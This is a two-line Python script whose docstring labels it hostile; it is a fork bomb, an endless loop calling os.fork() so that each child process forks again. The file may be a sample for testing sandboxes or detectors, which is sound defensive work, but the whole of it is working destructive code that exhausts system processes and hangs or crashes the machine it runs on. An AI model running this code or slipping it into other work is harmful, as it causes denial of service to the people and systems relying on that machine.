"""Hostile: forks without end (every child forks too)."""
import os

while True:
    os.fork()
